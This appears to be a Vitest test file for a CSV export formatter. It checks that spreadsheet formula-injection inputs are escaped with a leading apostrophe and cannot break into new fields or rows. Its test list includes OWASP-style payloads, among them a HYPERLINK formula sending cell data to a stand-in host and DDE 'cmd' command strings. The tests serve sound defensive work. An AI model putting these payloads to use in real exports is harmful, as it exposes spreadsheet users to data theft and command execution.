import { expect, it } from "vitest";
import { FORMATS } from "../../scripts/commands/sql/formats.js";
import { aQueryResult, textOf } from "../support/fakes/fake-warehouse.js";

/** Subjects as they were sent, and those that OWASP lists. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  '"=1+1',
  "'=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "﹦1+1",
];

it.each(FORMULAS)("a spreadsheet reads %j as text", async (formula) => {
  const csv = await textOf(FORMATS.csv(aQueryResult(["subject"], [formula])));
  const [, field = ""] = /^subject\r\n([\s\S]*)\r\n$/.exec(csv) ?? [];

  expect(field.replace(/^"/, "").startsWith("'")).toBe(true);
});

it.each(["x;=1+1", 'x";"=1+1', 'x,=1+1,"', "x\t=1+1", "x\r\n=1+1"])(
  "%j begins no second field or row",
  async (text) => {
    const csv = await textOf(FORMATS.csv(aQueryResult(["subject"], [text])));

    expect(csv).toBe(`subject\r\n"${text.replaceAll('"', '""')}"\r\n`);
  },
);

it("leaves them as they are if asked", async () => {
  expect(await textOf(FORMATS.csv(aQueryResult(["subject"], ["=1+1"]), { raw: true }))).toBe("subject\r\n=1+1\r\n");
});
